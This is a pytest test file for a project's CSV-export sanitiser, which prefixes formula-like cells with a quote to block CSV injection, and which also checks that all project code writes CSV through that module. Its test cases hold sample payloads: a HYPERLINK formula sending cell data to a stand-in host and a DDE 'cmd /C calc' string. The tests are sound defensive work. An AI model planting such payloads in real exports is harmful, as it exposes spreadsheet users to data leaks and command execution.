"""enrollments.csv_output: OWASP's CSV injection rule, and every CSV writer of the project
going through it."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from enrollments.csv_output import csv_writer, spreadsheet_safe

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("+1 555 0100", "'+1 555 0100"),
        ("=evil@example.com", "'=evil@example.com"),
        # Not triggers: written as given.
        ("ann@example.com", "ann@example.com"),
        ("Ann = Bob", "Ann = Bob"),
        (" =1+1", " =1+1"),
        ("'quoted", "'quoted"),
        ("", ""),
        # Numbers are data (our choice, documented in the module): unchanged.
        ("-3", "-3"),
        ("+4.5", "+4.5"),
        ("-1e6", "-1e6"),
        ("-.5", "-.5"),
        (-3, -3),
        (-2.5, -2.5),
        (Decimal("-7.25"), Decimal("-7.25")),
        (None, None),
    ],
)
def test_cells_that_begin_like_a_formula_get_a_leading_quote(cell, written):
    assert spreadsheet_safe(cell) == written


def test_the_writer_neutralises_every_cell_and_quotes_as_rfc_4180():
    out = io.StringIO(newline="")
    writer = csv_writer(out)
    writer.writerow(["name", "email", "amount"])
    writer.writerows([['=1+1, "two"', "@evil@example.com", -5], ["Ann", "ann@example.com", 3]])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "email", "amount"],
        ['\'=1+1, "two"', "'@evil@example.com", "-5"],
        ["Ann", "ann@example.com", "3"],
    ]


# The project's own packages: what it ships. Tests and benchmarks write no CSV for anyone.
PACKAGES = ("enrollments", "lms", "apikeys", "config")
DIRECT_WRITER = re.compile(
    r"\bcsv\.(writer|DictWriter)\b|\bfrom csv import\b[^\n]*\b(writer|DictWriter)\b"
)


def test_every_csv_writer_of_the_project_goes_through_csv_output():
    direct = [
        str(path.relative_to(ROOT))
        for package in PACKAGES
        for path in sorted((ROOT / package).rglob("*.py"))
        if path.name != "csv_output.py" and DIRECT_WRITER.search(path.read_text())
    ]

    assert direct == []
    # The search itself finds what it is looking for.
    assert DIRECT_WRITER.search((ROOT / "enrollments" / "csv_output.py").read_text())
